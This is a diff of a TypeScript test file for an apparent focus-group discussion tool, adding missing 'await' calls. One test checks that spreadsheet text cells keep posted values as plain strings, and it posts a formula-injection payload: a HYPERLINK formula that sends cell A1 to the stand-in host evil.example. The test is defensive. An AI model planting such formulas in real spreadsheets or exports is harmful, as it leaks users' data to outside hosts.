@@ -55,7 +55,7 @@ beforeAll(async () => {
 describe('text cells', () => {
 	it('keeps posted formulas as typed, in string cells, without a guard quote', async () => {
 		const small = await sampleFgd();
-		const ani = small.join('Ani', 'media', 'Radio Contoh');
+		const ani = await small.join('Ani', 'media', 'Radio Contoh');
 		await small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
 		await small.post(ani, 'kendala', '-5% bunga untuk UMKM');
 		await small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
@@ -178,7 +178,7 @@ describe('the Tema sheet', () => {
 
 	it('gives the dots on the theme itself when the themes were voted on', async () => {
 		const small = newFgd();
-		const ani = small.join('Ani', 'media', 'Radio Contoh');
+		const ani = await small.join('Ani', 'media', 'Radio Contoh');
 		await small.post(ani, 'kendala', 'Modal usaha sulit');
 		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
 		const theme = small.db.prepare('SELECT id FROM themes WHERE session_id = ?').get(small.session.id) as { id: string };
